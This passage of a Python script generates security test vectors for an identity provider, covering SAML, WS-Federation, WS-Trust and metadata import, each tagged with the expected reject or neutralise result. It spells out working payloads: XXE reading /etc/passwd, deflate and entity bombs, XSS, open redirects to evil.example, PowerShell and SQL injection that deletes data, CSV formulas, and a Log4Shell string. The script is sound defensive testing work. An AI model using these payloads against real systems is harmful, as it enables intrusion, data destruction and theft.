r = sign(logout("_l20", VICTIM + "x")); n = r.find(f"{{{A}}}NameID"); n.text = VICTIM; c = E.Comment(""); c.tail = "x"; n.append(c)
slo("L20", "comment-in-nameid", "comment", "signed NameID 'VICTIMx' with a comment before the x: the signature stays valid; reading only the first text node would log the victim out", "reject", ser(r), victim_session_survives=True, alt_expect="accept", note="accept only as the identity VICTIMx (unknown)")
slo("L21", "expired", "semantics", "NotOnOrAfter in the past", "reject", ser(sign(logout("_l21", nooa=NOW - dt.timedelta(hours=1), when=NOW - dt.timedelta(hours=2)))))
slo("L22", "wrong-destination", "semantics", "Destination of another IdP", "reject", ser(sign(logout("_l22", dest="https://other-idp.example/slo"))))
slo("L23", "replay", "semantics", "the bytes of L00 sent a second time", "reject", ser(sign(logout("_l00"))), after="L00")
slo("L24", "foreign-sessionindex", "semantics", "SessionIndex of the victim with NameID of OWN", "reject", ser(sign(logout("_l24", session="_victim_session"))), victim_session_survives=True, alt_expect="neutralise")
slo("L25", "doctype", "dtd", "DOCTYPE in LogoutRequest", "reject", b"<!DOCTYPE x>" + ser(sign(logout("_l25"))))

# ================================================================ R. HTTP-Redirect binding
def deflate(b): c = zlib.compressobj(9, zlib.DEFLATED, -15); return c.compress(b) + c.flush()
def enc(b): return urllib.parse.quote(base64.b64encode(deflate(b)).decode(), safe="")
def signed_q(xml, relay=None, key=SPK, alg=RSA256, param="SAMLRequest"):
    q = f"{param}={enc(xml)}" + (f"&RelayState={urllib.parse.quote(relay, safe='')}" if relay is not None else "") + f"&SigAlg={urllib.parse.quote(alg, safe='')}"
    s = key.sign(q.encode(), padding.PKCS1v15(), hashes.SHA1() if alg == RSA1 else hashes.SHA256())
    return q, "&Signature=" + urllib.parse.quote(base64.b64encode(s).decode(), safe="")
def red(id_, name, cls, title, expect, q, **kw):
    v(id_, f"saml2/redirect/{id_}-{name}.query", cls, "saml-redirect", title, expect, q, **({**REJ, **kw} if expect == "reject" else kw))
g, ev = ser(authn("_g")), ser(authn("_ev", acs=EVIL))
q, s = signed_q(g, "rs1")
red("R00", "control-signed", "control", "valid signed redirect request with RelayState", "accept", q + s, **S)
red("R00u", "control-unsigned", "control", "unsigned redirect request (setup default)", "accept", f"SAMLRequest={enc(g)}")
red("R01", "signature-stripped", "sig-missing", "SigAlg and Signature removed", "reject", f"SAMLRequest={enc(g)}", **S)
red("R02", "sigalg-without-signature", "sig-missing", "SigAlg present, Signature absent", "reject", q, **S)
red("R03", "relaystate-swapped", "sig-cover", "RelayState changed after signing", "reject", q.replace("rs1", "rs2") + s, **S)
red("R04", "relaystate-added", "sig-cover", "RelayState added to a request signed without one", "reject", "".join(signed_q(g)) + "&RelayState=evil", **S)
red("R05", "duplicate-samlrequest-last", "hpp", "second, evil SAMLRequest after the signed one (classes of CVE-2025-27773, CVE-2025-31335)", "reject", q + s + f"&SAMLRequest={enc(ev)}", evil_acs=EVIL, **S)
red("R06", "duplicate-samlrequest-first", "hpp", "evil SAMLRequest before the signed one", "reject", f"SAMLRequest={enc(ev)}&" + q + s, evil_acs=EVIL, **S)
red("R07", "response-param-confusion", "hpp", "signed as SAMLResponse, evil SAMLRequest alongside", "reject", "".join(signed_q(g, param="SAMLResponse")) + f"&SAMLRequest={enc(ev)}", evil_acs=EVIL, **S)
red("R08", "encoded-name", "hpp", "parameter name percent-encoded (%53AMLRequest) carrying the evil message", "reject", q + s + f"&%53AMLRequest={enc(ev)}", evil_acs=EVIL, **S)
red("R09", "attacker-key", "sig-key", "query signature by the attacker", "reject", "".join(signed_q(ev, key=EVK)), **S)
red("R10", "sha1", "sig-alg", "rsa-sha1 query signature (policy as D30)", "reject", "".join(signed_q(g, alg=RSA1)), **{**S, "alt_setup": "require_signed+allow_sha1 -> accept"})
red("R11", "embedded-signature-only", "sig-missing", "embedded XML signature but no query signature: in the redirect binding the query signature is the one that counts", "reject", f"SAMLRequest={enc(ser(sign(authn('_r11'))))}", **S)
red("R12", "truncated-deflate", "encoding", "deflate stream cut in half", "reject", "SAMLRequest=" + urllib.parse.quote(base64.b64encode(deflate(g)[:40]).decode(), safe=""))
red("R13", "zlib-wrapped", "encoding", "zlib header instead of raw deflate", "reject", "SAMLRequest=" + urllib.parse.quote(base64.b64encode(zlib.compress(g)).decode(), safe=""))
red("R14", "trailing-bytes", "encoding", "bytes after the end of the deflate stream", "reject", "SAMLRequest=" + urllib.parse.quote(base64.b64encode(deflate(g) + b"AAAA").decode(), safe=""))
red("R15", "not-deflated", "encoding", "plain base64 without deflate", "reject", "SAMLRequest=" + urllib.parse.quote(base64.b64encode(g).decode(), safe=""))
red("R16", "samlencoding-unknown", "encoding", "SAMLEncoding of unknown value", "reject", f"SAMLRequest={enc(g)}&SAMLEncoding=urn:evil")
bomb = deflate(b"<a>" + b"A" * 10_000_000)
red("R17", "deflate-bomb-10mb", "dos", f"{len(bomb)} bytes inflate to 10 MB", "reject", "SAMLRequest=" + urllib.parse.quote(base64.b64encode(bomb).decode(), safe=""), http=[400, 413, 414])
red("R18", "relaystate-crlf", "injection", "CR LF in RelayState must not reach a header or a log line raw", "neutralise", f"SAMLRequest={enc(g)}&RelayState=a%0d%0aSet-Cookie:%20x=1", must_not_contain=["\r\nSet-Cookie: x=1"])
red("R19", "relaystate-xss", "xss", "markup in RelayState comes back only HTML-escaped in the auto-post form", "neutralise", f"SAMLRequest={enc(g)}&RelayState=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", must_not_contain=['"><script>alert(1)'])
red("R20", "relaystate-81", "semantics", "RelayState over 80 bytes (SAML limit): carried unchanged or refused, never cut", "neutralise", f"SAMLRequest={enc(g)}&RelayState=" + "r" * 2000)
red("R21", "lowercase-percent", "control", "same valid signature over lower-case percent-escapes: verify over the received octets, not a re-encoding", "accept", (lambda q0: q0 + "&Signature=" + urllib.parse.quote(base64.b64encode(SPK.sign(q0.encode(), padding.PKCS1v15(), hashes.SHA256())).decode(), safe=""))(q.replace("%3A", "%3a").replace("%2F", "%2f").replace("%2B", "%2b").replace("%3D", "%3d")), **S)

# ================================================================ W. WS-Federation passive / HTTP level (plain request descriptors)
W = []
def w(id_, cls, title, expect, params, method="GET", endpoint="wsfed", **kw):
    d = dict(id=id_, cls=cls, binding="http", method=method, endpoint=endpoint, params=params, title=title, expect=expect)
    d.update({**REJ, **kw} if expect == "reject" else kw); W.append(d)
base = [["wa", "wsignin1.0"], ["wtrealm", SP]]
w("W00", "control", "plain sign-in request", "accept", base + [["wctx", "LoginOptions=3&estsredirect=2"]])
for i, (t, u) in enumerate([("other host", "https://evil.example/"), ("userinfo", "https://login.microsoftonline.com@evil.example/login.srf"), ("suffix host", "https://login.microsoftonline.com.evil.example/login.srf"),
      ("http", "http://login.microsoftonline.com/login.srf"), ("javascript", "javascript:alert(1)"), ("data", "data:text/html,<script>alert(1)</script>"), ("protocol-relative", "//evil.example/login.srf"),
      ("backslash", "https://login.microsoftonline.com\\@evil.example/"), ("path traversal", "https://login.microsoftonline.com/login.srf/../../x"), ("tab in scheme", "java\tscript:alert(1)"),
      ("several @", "https://login.microsoftonline.com@@evil.example/"), ("port", "https://login.microsoftonline.com:8443/login.srf"), ("fragment", ACS + "#@evil.example"), ("extra query", ACS + "?wresult=evil"),
      ("trailing dot host", "https://login.microsoftonline.com./login.srf"), ("upper-case path", "https://login.microsoftonline.com/LOGIN.SRF"), ("IDN", "https://l\u043egin.microsoftonline.com/login.srf")], 1):
    w(f"W{i:02d}", "wreply", f"wreply: {t}", "reject", base + [["wreply", u]], must_not_contain_header={"Location": "evil.example"}, must_not_contain=[f'action="{u}"'])
w("W30", "wtrealm", "unknown wtrealm", "reject", [["wa", "wsignin1.0"], ["wtrealm", "urn:unknown"]])
w("W31", "wtrealm", "missing wtrealm", "reject", [["wa", "wsignin1.0"]])
w("W32", "hpp", "two different wtrealm", "reject", base + [["wtrealm", "urn:unknown"]])
w("W33", "hpp", "two wreply, first registered, second evil", "reject", base + [["wreply", ACS], ["wreply", "https://evil.example/"]])
w("W34", "xss", "markup in wctx is only reflected escaped", "neutralise", base + [["wctx", "\"><script>alert(1)</script>"]], must_not_contain=["\"><script>alert(1)"])
w("W35", "injection", "CR LF in wctx", "neutralise", base + [["wctx", "a\r\nSet-Cookie: x=1"]])
w("W36", "semantics", "unknown wa", "reject", [["wa", "wevil1.0"], ["wtrealm", SP]])
w("W37", "semantics", "wct one day old", "reject", base + [["wct", fmt(NOW - dt.timedelta(days=1))]], alt_expect="neutralise", note="AD FS ignores wct; neutralise = ignored")
w("W38", "semantics", "wfresh=0 with a live session: must ask for credentials again", "neutralise", base + [["wfresh", "0"]])
w("W39", "semantics", "wfresh=abc", "reject", base + [["wfresh", "abc"]], alt_expect="neutralise")
w("W40", "mfa", "wauth=http://schemas.microsoft.com/claims/multipleauthn: the token must not carry multipleauthn unless a second factor was verified", "neutralise", base + [["wauth", "http://schemas.microsoft.com/claims/multipleauthn"]])
w("W41", "ssrf", "wreqptr must never be fetched", "neutralise", base + [["wreqptr", "http://127.0.0.1:18080/wreq"]], canary="127.0.0.1:18080")
w("W42", "xxe", "wreq with external entity", "reject", base + [["wreq", '<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:18080/w">]><t:RequestSecurityToken xmlns:t="http://schemas.xmlsoap.org/ws/2005/02/trust">&e;</t:RequestSecurityToken>']], canary="127.0.0.1:18080", alt_expect="neutralise")
w("W43", "csrf", "wsignoutcleanup1.0 with evil wreply: session may end, but no redirect to evil", "neutralise", [["wa", "wsignoutcleanup1.0"], ["wreply", "https://evil.example/"]], must_not_contain_header={"Location": "evil.example"})
w("W44", "dos", "wtrealm of 1 MB", "reject", [["wa", "wsignin1.0"], ["wtrealm", {"repeat": "a", "times": 1048576}]], http=[400, 413, 414, 431])
w("W45", "dos", "10,000 parameters", "reject", base + [[{"prefix": "p", "count": 10000}, "1"]], http=[400, 413, 414, 431])
w("W46", "cache", "path that looks static (/wsfed/x.css) must not serve the login or token page", "reject", base, endpoint="wsfed:/x.css", http=[404])
w("W47", "host", "Host: evil.example — absolute URLs, cookies and reset links never follow it", "reject", base, headers={"Host": "evil.example"}, http=[400, 421], alt_expect="neutralise")
w("W48", "host", "X-Forwarded-Host: evil.example from an untrusted peer (class of CVE-2025-64101)", "neutralise", base, headers={"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "http", "Forwarded": "host=evil.example"}, must_not_contain=["evil.example"])
w("W49", "host", "X-Forwarded-For spoof: the rate limiter must use the peer address", "neutralise", base, headers={"X-Forwarded-For": "203.0.113.7"})
w("W50", "method", "sign-in response page requested with TRACE", "reject", base, method="TRACE", http=[405, 501])

# ================================================================ T. WS-Trust usernamemixed
SOAP12 = "http://www.w3.org/2003/05/soap-envelope"; WSSE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"
WSU = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"; WST13 = "http://docs.oasis-open.org/ws-sx/ws-trust/200512"
WSA = "http://www.w3.org/2005/08/addressing"; WSP = "http://schemas.xmlsoap.org/ws/2004/09/policy"; STS = IDP + "/trust/13/usernamemixed"
PWT = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordText"
def rst(user="alice@contoso.com", pw="correct-horse", created=None, expires=None, applies=SP, dtd="", to=STS, action=WST13 + "/RST/Issue", rtype=WST13 + "/Issue", ts=True, extra_tok="", extra_rst="", pwtype=PWT, extra_hdr=""):
    c = fmt(created or NOW); e = fmt(expires or NOW + dt.timedelta(minutes=5))
    t = f'<u:Timestamp u:Id="_0"><u:Created>{c}</u:Created><u:Expires>{e}</u:Expires></u:Timestamp>' if ts else ""
    return f'''{dtd}<s:Envelope xmlns:s="{SOAP12}" xmlns:a="{WSA}" xmlns:u="{WSU}"><s:Header><a:Action s:mustUnderstand="1">{action}</a:Action><a:MessageID>urn:uuid:00000000-0000-4000-8000-000000000001</a:MessageID><a:ReplyTo><a:Address>http://www.w3.org/2005/08/addressing/anonymous</a:Address></a:ReplyTo><a:To s:mustUnderstand="1">{to}</a:To>{extra_hdr}<o:Security s:mustUnderstand="1" xmlns:o="{WSSE}">{t}<o:UsernameToken u:Id="_u1"><o:Username>{user}</o:Username><o:Password Type="{pwtype}">{pw}</o:Password></o:UsernameToken>{extra_tok}</o:Security></s:Header><s:Body><trust:RequestSecurityToken xmlns:trust="{WST13}"><wsp:AppliesTo xmlns:wsp="{WSP}"><a:EndpointReference><a:Address>{applies}</a:Address></a:EndpointReference></wsp:AppliesTo><trust:KeyType>{WST13}/Bearer</trust:KeyType><trust:RequestType>{rtype}</trust:RequestType>{extra_rst}</trust:RequestSecurityToken></s:Body></s:Envelope>'''
TR = {**REJ, "http": [400, 500], "soap_fault": True}
def tr(id_, name, cls, title, expect, data, **kw):
    v(id_, f"wstrust/{id_}-{name}.xml", cls, "wstrust13", title, expect, data, **({**TR, **kw} if expect == "reject" else kw))
tr("T00", "control", "control", "valid RST 1.3 (user alice without second factor required, endpoint enabled)", "accept", rst())
tr("T01", "xxe-username", "xxe", "external entity in Username", "reject", rst(user="&e;", dtd='<!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), must_not_contain=["root:"])
tr("T02", "billion-laughs", "dtd-dos", "entity expansion in RST", "reject", rst(user="&l9;", dtd=f'<!DOCTYPE x [<!ENTITY l0 "lol">{lol}]>'))
tr("T03", "appliesto-unknown", "semantics", "AppliesTo of an unknown realm", "reject", rst(applies="urn:unknown"))
tr("T04", "expired", "semantics", "Timestamp expired an hour ago", "reject", rst(created=NOW - dt.timedelta(hours=2), expires=NOW - dt.timedelta(hours=1)))
tr("T05", "no-timestamp", "semantics", "no Timestamp", "reject", rst(ts=False))
tr("T06", "expires-in-10-years", "semantics", "Expires far in the future", "reject", rst(expires=NOW + dt.timedelta(days=3650)))
tr("T07", "created-future", "semantics", "Created an hour ahead", "reject", rst(created=NOW + dt.timedelta(hours=1), expires=NOW + dt.timedelta(hours=2)))
tr("T08", "comment-username", "comment", "Username victim@contoso.com<!---->.evil.example", "reject", rst(user="victim@contoso.com<!---->.evil.example"))
tr("T09", "wrong-to", "semantics", "To of another service", "reject", rst(to="https://other-idp.example/trust"))
tr("T10", "wrong-action", "semantics", "Action RST/Renew with RequestType Issue", "reject", rst(action=WST13 + "/RST/Renew"))
tr("T11", "two-usernametokens", "semantics", "a second UsernameToken (victim) after the first", "reject", rst(extra_tok=f'<o:UsernameToken u:Id="_u2"><o:Username>victim@contoso.com</o:Username><o:Password Type="{PWT}">x</o:Password></o:UsernameToken>'))
tr("T12", "passworddigest", "semantics", "PasswordDigest type", "reject", rst(pwtype=PWT.replace("PasswordText", "PasswordDigest")))
tr("T13", "xop-include", "xxe", "XOP Include of a local file in Password", "reject", rst(pw='<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="file:///etc/passwd"/>'))
tr("T14", "onbehalfof", "semantics", "OnBehalfOf with an unsigned SAML 1.1 assertion", "reject", rst(extra_rst='<trust:OnBehalfOf><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion" MajorVersion="1" MinorVersion="1" AssertionID="_a" Issuer="evil" IssueInstant="2026-11-22T00:00:00Z"/></trust:OnBehalfOf>'))
tr("T15", "saml11-actas-entity", "xxe", "ActAs with SAML 1.1 assertion whose Issuer is an external entity", "reject", rst(dtd='<!DOCTYPE s [<!ENTITY e SYSTEM "http://127.0.0.1:18080/t15">]>', extra_rst='<tr14:ActAs xmlns:tr14="http://docs.oasis-open.org/ws-sx/ws-trust/200802"><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion"><saml:Issuer>&e;</saml:Issuer></saml:Assertion></tr14:ActAs>'), canary="127.0.0.1:18080")
tr("T16", "renew", "semantics", "RequestType Renew", "reject", rst(rtype=WST13 + "/Renew", action=WST13 + "/RST/Renew"))
tr("T17", "lifetime-10y", "semantics", "requested Lifetime of ten years: issued lifetime stays at the configured maximum", "neutralise", rst(extra_rst=f'<trust:Lifetime><u:Created>{fmt(NOW)}</u:Created><u:Expires>2036-11-22T00:00:00Z</u:Expires></trust:Lifetime>'), max_token_lifetime_s=3600)
tr("T18", "mustunderstand-unknown", "semantics", "unknown header with mustUnderstand=1", "reject", rst(extra_hdr='<x:Evil xmlns:x="urn:evil" s:mustUnderstand="1"/>'))
tr("T19", "mfa-user", "mfa", "user bob has MFA enforced: password alone gets a fault, never a token; and no hint whether the password was right", "reject", rst(user="bob@contoso.com"))
tr("T20", "unknown-user", "enumeration", "unknown user: same fault bytes and same time as a wrong password (T21)", "reject", rst(user="nobody@contoso.com", pw="x"), same_response_as="T21")
tr("T21", "wrong-password", "enumeration", "wrong password", "reject", rst(pw="x"))
tr("T22", "unassigned-user", "authz", "correct password, user not assigned to the application", "reject", rst(user="carol@contoso.com"))
tr("T23", "disabled-user", "authz", "correct password, user disabled", "reject", rst(user="dave@contoso.com"))
tr("T24", "duplicate-wsuid", "wellformed", "duplicate wsu:Id", "reject", rst(extra_tok='<x:Y xmlns:x="urn:x" u:Id="_u1"/>'))
tr("T25", "password-with-child", "semantics", "markup inside Password", "reject", rst(pw="correct<!---->-horse"), alt_expect="accept", note="accept only if the full text matches")

# ================================================================ M. metadata import by an administrator
MD = "urn:oasis:names:tc:SAML:2.0:metadata"
def md(inner="", attrs="", dtd="", entity="https://sp.example/md", acs="https://sp.example/acs", kd=""):
    return f'{dtd}<md:EntityDescriptor xmlns:md="{MD}" xmlns:ds="{DS}" entityID="{entity}"{attrs}><md:SPSSODescriptor protocolSupportEnumeration="{P}" AuthnRequestsSigned="true">{kd}<md:AssertionConsumerService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="{acs}" index="0"/></md:SPSSODescriptor>{inner}</md:EntityDescriptor>'
kd = lambda use: f'<md:KeyDescriptor{use}><ds:KeyInfo><ds:X509Data><ds:X509Certificate>{der64(SPC)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>'
def meta(id_, name, cls, title, expect, data, **kw): v(id_, f"saml2/metadata/{id_}-{name}.xml", cls, "admin-metadata", title, expect, data, **kw)
meta("M00", "control", "control", "ordinary SP metadata", "accept", md(kd=kd(' use="signing"')))
meta("M01", "xxe", "xxe", "DOCTYPE with external entity", "reject", md(dtd='<!DOCTYPE m [<!ENTITY e SYSTEM "file:///etc/passwd">]>', entity="&e;"))
meta("M02", "acs-javascript", "acs", "javascript: ACS location", "reject", md(acs="javascript:alert(1)"))
meta("M03", "acs-http", "acs", "http ACS location", "reject", md(acs="http://sp.example/acs"))
meta("M04", "keydescriptor-no-use", "sig-policy", "KeyDescriptor without use attribute: the key counts for signing and signatures stay required (class of CVE-2026-16443)", "accept", md(kd=kd("")), must_read={"require_signed": True, "signing_certs": 1})
meta("M05", "expired-validuntil", "semantics", "validUntil in the past", "reject", md(attrs=' validUntil="2001-01-01T00:00:00Z"'))
meta("M06", "entityid-collision", "authz", "entityID of the existing Microsoft relying party with another ACS: never silently overwrites", "reject", md(entity=SP, acs=EVIL, kd=kd(' use="signing"')), http=[409])
meta("M07", "duplicate-acs-index", "semantics", "two ACS with the same index", "reject", md().replace("</md:SPSSODescriptor>", '<md:AssertionConsumerService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://evil.example/acs" index="0"/></md:SPSSODescriptor>'))
meta("M08", "signed-required-no-key", "sig-policy", "AuthnRequestsSigned=true without any key: import refused or marked incomplete, never 'signature not required'", "reject", md())

# ================================================================ large: the tests make them from their names
for id_, name, cls, title in [
  ("X01", "deep-nesting-10mb", "dos", "10 MB of nested elements (~1.4 million levels)"),
  ("X02", "deep-nesting-2000", "dos", "2,000 levels (stack overflow in recursive parsers)"),
  ("X03", "attrs-80000", "dos", "80,000 attributes on one start tag (RUSTSEC-2026-0194)"),
  ("X04", "xmlns-100000", "dos", "100,000 namespace declarations on one tag (RUSTSEC-2026-0195)"),
  ("X05", "attr-9mb", "dos", "one attribute value of 9 MB"),
  ("X06", "text-9mb", "dos", "Issuer text of 9 MB"),
  ("X07", "references-20000", "sig-dos", "20,000 ds:Reference elements"),
  ("X08", "comments-1m", "dos", "one million comments inside Issuer"),
  ("X09", "charrefs-1m", "dos", "one million character references"),
  ("X10", "deflate-bomb-1gb", "dos", "~1 MB inflating to 1 GB"),
  ("X11", "siblings-500000", "dos", "500,000 empty children in Extensions"),
]:
    v(id_, f"large/{id_}-{name}", cls, "saml-redirect" if id_ == "X10" else "saml-post", title, "reject", None, **{**REJ, "http": [400, 413, 414, 431], "max_ms": 1000, "max_rss_mib": 64})

# ================================================================ stored-value injection (directory data that later flows into outputs)
STORED = dict(
  fields=["displayName", "givenName", "surname", "department", "jobTitle", "mailNickname", "usageLocation", "application name", "group name", "realm display name"],
  values=[
    dict(id="S01", value="</saml:AttributeValue><saml:AttributeValue>Global Administrator", sinks=["saml", "wsfed", "wstrust"], expect="issued assertion has the same element count as for a plain value; value round-trips byte for byte"),
    dict(id="S02", value="]]>&<>\"'", sinks=["saml", "html", "json"], expect="round-trips"),
    dict(id="S03", value="\"><script>alert(1)</script>", sinks=["html", "email"], expect="escaped; no inline script; CSP not violated"),
    dict(id="S04", value="x'; Remove-Item -Recurse C:\\; '", sinks=["powershell"], expect="one string literal; AST has no extra command"),
    dict(id="S05", value="x\u2019; Start-Process calc; \u2018", sinks=["powershell"], expect="U+2018 U+2019 U+201A U+201B are quote characters in PowerShell single-quoted strings and must be doubled (or the value refused)"),
    dict(id="S06", value="x\u201d; Start-Process calc; \u201c", sinks=["powershell"], expect="U+201C U+201D U+201E are double quotes in PowerShell; never place values in double-quoted strings"),
    dict(id="S07", value="$(Start-Process calc)`n$env:PATH", sinks=["powershell"], expect="literal"),
    dict(id="S08", value="\n'@\nStart-Process calc\n@'", sinks=["powershell"], expect="control characters refused for script values; no here-strings used"),
    dict(id="S09", value="#> Start-Process calc <#", sinks=["powershell-comment"], expect="no user value inside comments"),
    dict(id="S10", value="=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", sinks=["csv"], expect="cell starts with a single quote"),
    dict(id="S11", value="+1+cmd|' /C calc'!A0", sinks=["csv"], expect="prefixed"),
    dict(id="S12", value="@SUM(1)", sinks=["csv"], expect="prefixed"), dict(id="S13", value="-2+3", sinks=["csv"], expect="prefixed"),
    dict(id="S14", value="\t=1+1", sinks=["csv"], expect="prefixed"), dict(id="S15", value="\r=1+1", sinks=["csv"], expect="prefixed and quoted per RFC 4180"),
    dict(id="S16", value="ok\r\n2026-11-22T00:00:00Z INFO login.success user=admin", sinks=["log", "syslog", "audit"], expect="one log record; CR LF escaped"),
    dict(id="S17", value="\u001b[2J\u001b[31mred", sinks=["log", "terminal"], expect="ESC escaped"),
    dict(id="S18", value="\u202egnp.exe", sinks=["html", "log"], expect="bidi controls isolated or stripped on display"),
    dict(id="S19", value="{{ config }}{% include \"/etc/passwd\" %}", sinks=["tera", "email"], expect="never compiled as a template"),
    dict(id="S20", value="' or 1 eq 1 or userPrincipalName eq '", sinks=["graph-filter"], expect="quote doubled; mock Graph sees one literal"),
    dict(id="S21", value="../../deletedItems/x?$select=id#", sinks=["graph-path"], expect="path segment percent-encoded; mock Graph sees one segment"),
    dict(id="S22", value="a@contoso.com\nBcc: all@contoso.com", sinks=["smtp"], expect="refused"),
    dict(id="S23", value="A" * 5000, sinks=["graph", "html", "saml"], expect="validated to the field limit at input"),
    dict(id="S24", value="x\u0000y", sinks=["all"], expect="refused at input (XML 1.0 and Postgres text cannot hold it)"),
    dict(id="S25", value="\ud83d\ude00\u0301e\u0301", sinks=["all"], expect="round-trips; NFC handling is defined"),
    dict(id="S26", value="'; DROP TABLE users;--", sinks=["sql"], expect="literal"),
    dict(id="S27", value="${jndi:ldap://127.0.0.1:18080/a}", sinks=["log", "graph"], expect="literal; canary sees nothing"),
    dict(id="S28", value="javascript:alert(1)", sinks=["url fields (logo, support link)"], expect="only https accepted"),
  ])
json.dump(STORED, open(os.path.join(OUT, "stored-values.json"), "w"), indent=1, ensure_ascii=True)
json.dump(W, open(os.path.join(OUT, "http-requests.json"), "w"), indent=1, ensure_ascii=True)
json.dump(dict(
  format=1, generated_for_now=fmt(NOW),
  about="Hostile inputs for an identity provider. Run the product with a test clock at generated_for_now (or regenerate with --now) and public URL " + IDP,
  endpoints={"saml-post": "POST {sso} SAMLRequest=base64(file)", "saml-post-raw": "POST {sso} SAMLRequest=file bytes as is", "saml-redirect": "GET {sso}?file", "saml-slo-post": "POST {slo} SAMLRequest=base64(file)",
             "wstrust13": "POST {trust13} application/soap+xml, body=file", "admin-metadata": "admin API: import metadata, body=file", "http": "see http-requests.json"},
  setups={"default": {"sp": SP, "acs": [ACS], "require_signed": False}, "require_signed": {"sp": SP, "acs": [ACS], "require_signed": True, "cert": "saml2/sp.der"}},
  users={"alice@contoso.com": "enabled, assigned, no MFA", "bob@contoso.com": "enabled, assigned, MFA enforced", "carol@contoso.com": "enabled, not assigned", "dave@contoso.com": "disabled", "password for all": "correct-horse"},
  expect={"reject": "one of http; no session cookie, no assertion, no outbound connection, one audit event with a reason code, within max_ms (server CPU time) and max_rss_mib (growth)",
          "accept": "processing continues to the login page or token", "neutralise": "request may continue but the hostile part has no effect (see title, must_not_contain, must_read)", "saml-error": "signed-or-unsigned SAML error Response to the registered ACS only"},
  vectors=MAN), open(os.path.join(OUT, "manifest.json"), "w"), indent=1, ensure_ascii=True)
print(len(MAN), "vectors in manifest,", len(W), "http requests,", len(STORED["values"]), "stored values")
